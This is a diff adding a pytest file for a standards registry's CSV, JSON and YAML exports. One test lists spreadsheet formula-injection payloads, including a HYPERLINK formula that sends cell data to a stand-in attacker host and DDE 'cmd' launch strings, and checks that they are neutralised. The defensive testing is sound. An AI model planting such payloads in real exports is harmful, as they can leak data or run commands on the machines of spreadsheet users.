@@ -1,0 +1,186 @@
+"""The machine-readable exports: CSV competency matrix, JSON, exact YAML."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from registry.exports import FORMATS, VersionInfo, document_json, render, source_yaml
+from registry.exports.csv_matrix import FORMULA_TRIGGERS, columns, competency_matrix
+from registry.loader import load_bytes
+
+ROOT = Path(__file__).resolve().parent.parent
+STANDARDS = ROOT / "standards"
+BOM = b"\xef\xbb\xbf"
+
+
+def load(code: str, version: str) -> dict:
+    return load_bytes((STANDARDS / code / f"{version}.yaml").read_bytes()).data
+
+
+def read(data: bytes) -> list[dict[str, str]]:
+    """What a program gets back: Python's csv module over the UTF-8 (BOM stripped) text."""
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def items_of(doc: dict) -> list[dict]:
+    found = []
+    for section in doc["work_requirements"]["sections"]:
+        for block in section["functions"]:
+            for wc in block["work_contents"]:
+                found += wc["requirements"] + wc["knowledge"] + wc.get("behaviours", [])
+    return found + doc.get("behaviours", [])
+
+
+# --- CSV ----------------------------------------------------------------------------------------------
+
+
+def test_csv_is_utf8_with_bom_crlf_and_a_stable_header():
+    doc = load("4-04-05-05", "2.0")  # zh master, en and fr translations
+    data = competency_matrix(doc, version_info=VersionInfo(code="4-04-05-05", version="2.0"))
+    assert data.startswith(BOM) and not data.startswith(BOM + BOM)
+    text = data[len(BOM):].decode("utf-8")  # strict: the whole file is valid UTF-8
+    assert text.endswith("\r\n")
+    assert "\n" not in text.replace("\r\n", "")  # no bare LF line ends (none of these texts has a line break)
+    header = text.split("\r\n", 1)[0].split(",")
+    assert header == [
+        "code", "version", "level_id", "level_name_zh", "level_name_en", "level_name_fr", "direction_id",
+        "direction_name_zh", "direction_name_en", "direction_name_fr", "function_id", "function_number",
+        "function_name_zh", "function_name_en", "function_name_fr", "work_content_id", "work_content_number",
+        "work_content_name_zh", "work_content_name_en", "work_content_name_fr", "item_id", "kind", "number",
+        "text_zh", "text_en", "text_fr"]
+    assert header == columns(load("4-04-05-05", "2.0"))
+    assert competency_matrix(doc, version_info=None) == data  # deterministic, same code and version as the file
+
+
+@pytest.mark.parametrize("path", sorted(STANDARDS.rglob("*.yaml")), ids=lambda p: f"{p.parent.name}/{p.stem}")
+def test_one_row_per_item_and_every_row_complete(path: Path):
+    doc = load_bytes(path.read_bytes()).data
+    rows = read(competency_matrix(doc, version_info=None))
+    items = items_of(doc)
+    assert len(rows) == len(items)
+    assert [r["item_id"] for r in rows] == [i["id"] for i in items]  # document order
+    raw = list(csv.reader(io.StringIO(competency_matrix(doc, version_info=None).decode("utf-8-sig"), newline="")))
+    assert {len(r) for r in raw} == {len(columns(doc))}
+    assert {r["code"] for r in rows} == {doc["code"]} and {r["version"] for r in rows} == {doc["version"]}
+    master = doc["languages"]["master"]
+    assert all(r[f"text_{master}"] for r in rows)
+    assert {r["kind"] for r in rows} <= {"requirement", "knowledge", "behaviour"}
+
+
+def test_chinese_and_english_texts_round_trip():
+    doc = load("4-04-05-05", "2.0")
+    rows = {r["item_id"]: r for r in read(competency_matrix(doc, version_info=None))}
+    section = doc["work_requirements"]["sections"][1]
+    block = section["functions"][0]
+    wc = block["work_contents"][0]
+    requirement, knowledge = wc["requirements"][0], wc["knowledge"][0]
+    row = rows[requirement["id"]]
+    assert row["text_zh"] == requirement["text"]["zh"] and row["text_en"] == requirement["text"]["en"]
+    assert row["kind"] == "requirement" and row["number"] == requirement["number"]
+    assert row["level_id"] == section["level"] == "L4"
+    assert (row["level_name_zh"], row["level_name_en"]) == ("四级/中级工", "Level 4 / Intermediate worker")
+    assert row["function_id"] == block["function"] and row["function_number"] == block["number"]
+    function = next(f for f in doc["functions"] if f["id"] == block["function"])
+    assert row["function_name_zh"] == function["name"]["zh"] and row["function_name_en"] == function["name"]["en"]
+    assert (row["work_content_id"], row["work_content_number"]) == (wc["id"], wc["number"])
+    assert row["work_content_name_zh"] == wc["name"]["zh"]
+    assert rows[knowledge["id"]]["kind"] == "knowledge"
+    assert rows[knowledge["id"]]["text_zh"] == knowledge["text"]["zh"]
+
+
+def test_directions_and_missing_translations():
+    doc = load("2-02-38-01", "1.0")  # two directions
+    rows = read(competency_matrix(doc, version_info=None))
+    directions = {d["id"]: d for d in doc["directions"]}
+    assert {r["direction_id"] for r in rows} == set(directions)
+    for row in rows[:5] + rows[-5:]:
+        assert row["direction_name_zh"] == directions[row["direction_id"]]["name"]["zh"]
+    # a text without a French translation leaves text_fr empty: no fallback to the master text
+    item = items_of(doc)[0]
+    item["text"] = {"zh": "只有中文。"}
+    row = read(competency_matrix(doc, version_info=None))[0]
+    assert (row["text_zh"], row["text_en"], row["text_fr"]) == ("只有中文。", "", "")
+
+
+def test_formula_injection_is_neutralised():
+    doc = copy.deepcopy(load("4-04-05-05", "2.0"))
+    items = items_of(doc)
+    attacks = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
+               "\t=1+1", "\r=1+1"]
+    for item, attack in zip(items, attacks):
+        item["text"] = {"zh": attack, "en": attack, "fr": attack}
+    wc = doc["work_requirements"]["sections"][0]["functions"][0]["work_contents"][0]
+    wc["name"] = {"zh": "=1+1", "en": "Quoted \"name\", with a comma\nand a line break"}
+    data = competency_matrix(doc, version_info=None)
+    rows = read(data)
+    for row, attack in zip(rows, attacks):
+        assert row["text_zh"] == "'" + attack and row["text_en"] == "'" + attack
+    first = next(r for r in rows if r["work_content_id"] == wc["id"])
+    assert first["work_content_name_zh"] == "'=1+1"
+    assert first["work_content_name_en"] == "Quoted \"name\", with a comma\nand a line break"  # survives quoting
+    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
+    # ordinary text is untouched
+    assert rows[len(attacks)]["text_zh"] == items[len(attacks)]["text"]["zh"]
+
+
+def test_behaviours_and_catalog_identity():
+    doc = copy.deepcopy(load("4-04-05-05", "2.0"))
+    wc = doc["work_requirements"]["sections"][0]["functions"][0]["work_contents"][0]
+    wc["behaviours"] = [{"id": "B-row-1", "text": {"zh": "认真倾听。", "en": "Listens carefully."}}]
+    doc["behaviours"] = [{"id": "B-1", "number": "1", "text": {"zh": "安全作业。", "en": "Works safely."}}]
+    rows = read(competency_matrix(doc, version_info=VersionInfo(code="4-04-05-05", version="2.0")))
+    assert len(rows) == len(items_of(doc))
+    by_id = {r["item_id"]: r for r in rows}
+    assert by_id["B-row-1"]["kind"] == "behaviour" and by_id["B-row-1"]["work_content_id"] == wc["id"]
+    assert rows[-1]["item_id"] == "B-1" and rows[-1]["level_id"] == rows[-1]["function_id"] == ""
+    assert rows[-1]["text_en"] == "Works safely." and rows[-1]["number"] == "1"
+
+
+def test_csv_from_the_catalog_matches_the_file(engine, corpus):
+    """The document as stored by each backend (JSON column) gives the same bytes as the YAML file."""
+    from registry.db import read_session
+    from registry.services import catalog
+
+    with read_session(engine) as session:
+        version = catalog.get_version(session, "4-04-05-05", "1.0")
+        info = VersionInfo.from_version(version)
+        stored, source = version.document, version.source
+    from_file = load("4-04-05-05", "1.0")
+    assert competency_matrix(stored, version_info=info) == competency_matrix(from_file, version_info=info)
+    assert source_yaml(source) == (STANDARDS / "4-04-05-05" / "1.0.yaml").read_bytes()
+    assert json.loads(document_json(stored)) == from_file
+
+
+# --- JSON, YAML and the format table ----------------------------------------------------------------------------
+
+
+def test_json_and_exact_yaml():
+    source = (STANDARDS / "2-02-38-01" / "1.0.yaml").read_bytes()
+    doc = load_bytes(source).data
+    data = document_json(doc)
+    assert json.loads(data.decode("utf-8")) == doc
+    assert list(json.loads(data)) == list(doc)  # field order of the file
+    assert doc["title"]["zh"] in data.decode("utf-8")  # readable UTF-8, not \u-escaped
+    assert data.endswith(b"\n")
+    assert source_yaml(source) == source
+
+
+def test_render_covers_every_format():
+    source = (STANDARDS / "4-04-05-05" / "2.0.yaml").read_bytes()
+    doc = load_bytes(source).data
+    info = VersionInfo(code="4-04-05-05", version="2.0")
+    assert set(FORMATS) == {"yaml", "json", "csv", "case.json"}
+    assert render("yaml", doc, source, info, base_url="http://x") == source
+    assert render("csv", doc, source, info, base_url="http://x").startswith(BOM)
+    assert json.loads(render("case.json", doc, source, info, base_url="http://x"))["CFDocument"]["version"] == "2.0"
+    assert json.loads(render("json", doc, source, info, base_url="http://x")) == doc
+    assert FORMATS["case.json"].depends_on_status and not FORMATS["csv"].depends_on_status
+    with pytest.raises(KeyError):
+        render("pdf", doc, source, info, base_url="http://x")
